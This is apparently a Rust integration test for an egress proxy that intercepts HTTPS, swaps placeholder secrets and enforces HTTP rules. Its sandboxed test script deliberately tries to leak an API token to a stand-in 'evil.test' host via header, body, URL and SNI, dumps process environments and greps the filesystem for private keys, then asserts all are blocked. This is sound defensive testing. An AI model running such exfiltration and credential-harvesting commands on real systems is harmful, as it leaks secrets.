//! Secrets and HTTP rules over HTTPS, through the real binary (docs/credentials.md,
//! "HTTPS"): the proxy terminates the cell's TLS to a secret's host or a ruled domain
//! with a leaf of the run's CA, applies exactly the plain-HTTP checks, and re-encrypts
//! upstream with verification against the operator's `tls_ca_file`; every other allowed
//! host keeps its plain tunnel, where the cell sees the upstream's own certificate.
//!
//! The upstreams are python3 TLS servers on 127.0.0.2 (exempted by the test's operator
//! config) with certificates from a test CA made here with rcgen; `rogue.test`'s server
//! has one from another CA the operator does not trust.

mod common;

use common::logging_upstream::{authorization, LoggingUpstream};
use common::test_ca::TestCa;
use common::tier::Tier;
use common::CellRun;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

const UPSTREAM_IP: &str = common::logging_upstream::ADDRESS;

/// A logging TLS upstream with a leaf of `ca` for `names`.
fn tls_upstream(dir: &Path, name: &str, ca: &TestCa, names: &[&str]) -> LoggingUpstream {
    let (cert, key) = ca.leaf(names);
    let cert_file = dir.join(format!("{name}.crt"));
    let key_file = dir.join(format!("{name}.key"));
    std::fs::write(&cert_file, cert).unwrap();
    std::fs::write(&key_file, key).unwrap();
    LoggingUpstream::start(dir, name, Some((&cert_file, &key_file)))
}

/// The test's directory: the operator config (secret `api` for `api.test`, the test CA
/// as the upstream roots), the secret's value file, the state dir.
struct Env {
    dir: tempfile::TempDir,
    config: PathBuf,
    state: PathBuf,
    value: String,
    ca: TestCa,
}

impl Env {
    fn new() -> Env {
        let dir = tempfile::tempdir().unwrap();
        let ca = TestCa::new("airlock test CA");
        let ca_file = dir.path().join("test-ca.pem");
        std::fs::write(&ca_file, ca.certificate_pem()).unwrap();
        let value = format!("sk-real-{}-{}", std::process::id(), nanos());
        let value_file = dir.path().join("api-token");
        std::fs::write(&value_file, format!("{value}\n")).unwrap();
        let config = dir.path().join("airlock.toml");
        let names = ["api.test", "evil.test", "plain.test", "rogue.test"];
        let resolve: Vec<String> = names
            .iter()
            .map(|n| format!("\"{n}\" = \"{UPSTREAM_IP}\""))
            .collect();
        std::fs::write(
            &config,
            format!(
                r#"[egress]
resolve = {{ {} }}
exempt_cidrs = ["127.0.0.2/32"]
tls_ca_file = "{}"

[secrets.api]
source = {{ file = "{}" }}
hosts = ["api.test"]
placement = {{ header = {{ name = "Authorization", format = "Bearer {{}}" }} }}
methods = ["POST"]
path_prefixes = ["/v1/"]
"#,
                resolve.join(", "),
                ca_file.display(),
                value_file.display()
            ),
        )
        .unwrap();
        let state = dir.path().join("state");
        Env {
            dir,
            config,
            state,
            value,
            ca,
        }
    }

    fn run(&self, tier: Tier, contract: &str, script: &str) -> CellRun {
        tier.run_in(
            self.dir.path(),
            Some(contract),
            &[
                "--config",
                self.config.to_str().unwrap(),
                "--state-dir",
                self.state.to_str().unwrap(),
            ],
            &["/bin/sh", "-c", script],
        )
    }

    fn store_bytes(&self) -> String {
        let mut all = Vec::new();
        for entry in walk(&self.state) {
            all.extend(std::fs::read(entry).unwrap_or_default());
        }
        String::from_utf8_lossy(&all).into_owned()
    }

    fn export(&self) -> String {
        let out = Command::new(common::airlock_bin())
            .args(["audit", "export", "--state-dir"])
            .arg(&self.state)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(out.status.success(), "audit export failed");
        String::from_utf8_lossy(&out.stdout).into_owned()
    }
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            files.extend(walk(&path));
        } else {
            files.push(path);
        }
    }
    files
}

fn nanos() -> u32 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos()
}

fn records(run: &CellRun) -> Vec<Value> {
    run.result["egress"].as_array().cloned().unwrap_or_default()
}

fn denial_reasons(run: &CellRun) -> Vec<String> {
    records(run)
        .iter()
        .filter(|r| r["decision"] == "denied")
        .map(|r| r["reason"].as_str().unwrap_or("").to_string())
        .collect()
}

/// The value of each `NAME=` line the script printed, in order.
fn lines_of<'a>(out: &'a str, name: &str) -> Vec<&'a str> {
    let prefix = format!("{name}=");
    out.lines()
        .filter_map(|l| l.strip_prefix(&prefix))
        .collect()
}

both_tiers! {
fn https_to_a_secret_host_is_intercepted_swapped_and_checked_while_other_hosts_tunnel(tier) {
    require_cells!();
    let env = Env::new();
    let all = ["api.test", "evil.test", "plain.test"];
    let up = tls_upstream(env.dir.path(), "good", &env.ca, &all);
    let port = up.port;
    let contract = format!(
        "network:\n  mode: allowlist\n  allowed_domains: [\"api.test:{port}\", \"evil.test:{port}\", \"plain.test:{port}\"]\n  \
         http_rules:\n    - {{ host: evil.test, methods: [GET, POST], path_prefixes: [/open/] }}\n\
         secrets:\n  - {{ name: api, env: API_TOKEN }}\n\
         env:\n  TEST_CA: |\n{}",
        env.ca
            .certificate_pem()
            .lines()
            .map(|l| format!("    {l}\n"))
            .collect::<String>()
    );
    // Each request prints its status and curl's exit code; `%{ssl_verify_result}` is 0
    // when curl verified the certificate with the trust it was given.
    let c = "curl -sS --max-time 20 -o /dev/null -w '%{http_code} %{ssl_verify_result}'";
    let auth = "-H \"Authorization: Bearer $API_TOKEN\"";
    let script = format!(
        "printf '%s\\n' \"$TEST_CA\" > /tmp/test-ca.pem; \
         echo \"allowed=$({c} -X POST {auth} -d hello https://api.test:{port}/v1/chat)\"; \
         echo \"other_host=$({c} -X POST {auth} https://evil.test:{port}/open/x)\"; \
         echo \"body=$({c} -X POST -d \"t=$API_TOKEN\" https://api.test:{port}/v1/chat)\"; \
         echo \"url=$({c} -X POST {auth} \"https://api.test:{port}/v1/chat?k=$API_TOKEN\")\"; \
         echo \"method=$({c} -X GET {auth} https://api.test:{port}/v1/chat)\"; \
         echo \"rule_method=$({c} -X DELETE https://evil.test:{port}/open/x)\"; \
         echo \"rule_path=$({c} https://evil.test:{port}/closed/x)\"; \
         echo \"rule_ok=$({c} https://evil.test:{port}/open/x)\"; \
         echo \"tunnelled=$({c} --cacert /tmp/test-ca.pem https://plain.test:{port}/any)\"; \
         echo \"intercepted_own_ca=$({c} --cacert /tmp/test-ca.pem -X POST {auth} https://api.test:{port}/v1/chat 2>/dev/null; echo \" exit $?\")\"; \
         echo \"sni_placeholder=$(openssl s_client -proxy 127.0.0.1:3128 -connect plain.test:{port} \
           -servername \"$API_TOKEN.plain.test\" </dev/null >/dev/null 2>&1; echo $?)\"; \
         echo \"h2_only=$(openssl s_client -proxy 127.0.0.1:3128 -connect api.test:{port} \
           -servername api.test -alpn h2 </dev/null >/dev/null 2>&1; echo $?)\"; \
         echo '--- environ'; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; \
         echo '--- keys'; grep -rlsI -e 'PRIVATE KE[Y]-----' / --exclude-dir=proc --exclude-dir=sys \
           --exclude-dir=dev --exclude-dir=usr --exclude-dir=lib --exclude-dir=lib64 \
           --exclude-dir=bin --exclude-dir=sbin; \
         grep -ls 'PRIVATE KE[Y]-----' /proc/[0-9]*/environ /proc/[0-9]*/cmdline; \
         echo \"bundle=$(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt)\"; \
         echo '--- files'; grep -rls 'sk-rea[l]' /tmp /etc /proc/[0-9]*/environ 2>/dev/null; \
         echo end"
    );
    let run = env.run(tier, &contract, &script);
    assert_eq!(run.status(), "ok", "{}", run.describe());
    let out = run.stdout();
    let one = |name: &str| {
        lines_of(&out, name)
            .first()
            .copied()
            .unwrap_or("")
            .to_string()
    };
    assert_eq!(one("allowed"), "200 0", "{out}");
    for refused in [
        "other_host",
        "body",
        "url",
        "method",
        "rule_method",
        "rule_path",
    ] {
        assert!(one(refused).starts_with("403 "), "{refused}: {out}");
    }
    assert_eq!(one("rule_ok"), "200 0", "{out}");
    // The tunnelled host's certificate verifies with the test CA alone: the cell saw the
    // upstream's own certificate. An intercepted host's does not (the run CA's leaf).
    assert_eq!(one("tunnelled"), "200 0", "{out}");
    assert!(
        one("intercepted_own_ca").ends_with("exit 60"),
        "an intercepted host shows the run CA's leaf: {out}"
    );
    // A placeholder in a tunnelled stream's SNI is refused; a client offering only h2 to an
    // intercepted host fails its handshake (only http/1.1 is offered).
    assert_ne!(one("sni_placeholder"), "0", "{out}");
    assert_ne!(one("h2_only"), "0", "{out}");
    let keys = out
        .split("--- keys\n")
        .nth(1)
        .and_then(|rest| rest.split("bundle=").next())
        .unwrap_or("");
    assert_eq!(
        keys.trim(),
        "",
        "a private key is readable in the cell: {out}"
    );
    let files = out
        .split("--- files\n")
        .nth(1)
        .and_then(|rest| rest.split("end").next())
        .unwrap_or("missing");
    assert_eq!(
        files.trim(),
        "",
        "a file in the cell holds the value: {out}"
    );
    let bundle: usize = one("bundle").parse().unwrap();
    let host_bundle =
        std::fs::read_to_string("/etc/ssl/certs/ca-certificates.crt").unwrap_or_default();
    assert_eq!(
        bundle,
        host_bundle.matches("BEGIN CERTIFICATE").count() + 1,
        "the cell's bundle is the host's plus the run CA: {out}"
    );
    assert!(
        !out.contains(&env.value),
        "the cell saw the real value: {out}"
    );

    let reasons = denial_reasons(&run);
    for code in [
        "egress.secret_wrong_destination",
        "egress.method_not_allowed",
        "egress.path_not_allowed",
        "egress.tls_handshake_failed",
    ] {
        assert!(reasons.iter().any(|r| r == code), "{code}: {reasons:?}");
    }
    let sni_refusal = records(&run)
        .into_iter()
        .any(|r| r["host"] == "plain.test" && r["reason"] == "egress.secret_wrong_destination");
    assert!(
        sni_refusal,
        "the SNI placeholder was refused on the tunnel: {reasons:?}"
    );
    assert_eq!(
        reasons
            .iter()
            .filter(|r| *r == "egress.secret_wrong_destination")
            .count(),
        4,
        "another host, the body, the URL and a tunnel's SNI: {reasons:?}"
    );

    // Only the allowed request, the ruled domain's allowed one and the tunnelled one
    // reached the upstream; the first with the real value, swapped in.
    let requests = up.requests();
    let paths: Vec<&str> = requests
        .iter()
        .map(|r| r["path"].as_str().unwrap())
        .collect();
    assert_eq!(paths, ["/v1/chat", "/open/x", "/any"], "{}", up.raw_log());
    assert_eq!(
        authorization(&requests[0]),
        [format!("Bearer {}", env.value)]
    );
    assert!(
        !up.raw_log().contains("airlock-secret-"),
        "{}",
        up.raw_log()
    );

    let result = serde_json::to_string(&run.result).unwrap();
    for (what, text) in [
        ("result", result),
        ("store", env.store_bytes()),
        ("export", env.export()),
    ] {
        assert!(!text.contains(&env.value), "the value is in the {what}");
    }
}
}

both_tiers! {
fn an_upstream_certificate_the_roots_do_not_sign_is_refused_with_a_reason(tier) {
    require_cells!();
    let env = Env::new();
    let stranger = TestCa::new("someone else's CA");
    let up = tls_upstream(env.dir.path(), "rogue", &stranger, &["rogue.test"]);
    let port = up.port;
    let contract = format!(
        "network:\n  mode: allowlist\n  allowed_domains: [\"rogue.test:{port}\"]\n  \
         http_rules:\n    - {{ host: rogue.test, methods: [GET], path_prefixes: [/] }}\n"
    );
    let script = format!(
        "curl -sS --max-time 20 -D - -o /dev/null https://rogue.test:{port}/x; echo \"exit=$?\""
    );
    let run = env.run(tier, &contract, &script);
    assert_eq!(run.status(), "ok", "{}", run.describe());
    let out = run.stdout();
    assert!(out.contains("502"), "a clean HTTP error: {out}");
    assert!(
        out.to_ascii_lowercase()
            .contains("x-airlock-reason: egress.upstream_cert_invalid"),
        "{out}"
    );
    assert_eq!(
        denial_reasons(&run),
        ["egress.upstream_cert_invalid"],
        "{}",
        run.describe()
    );
    assert!(up.requests().is_empty(), "{}", up.raw_log());
}
}
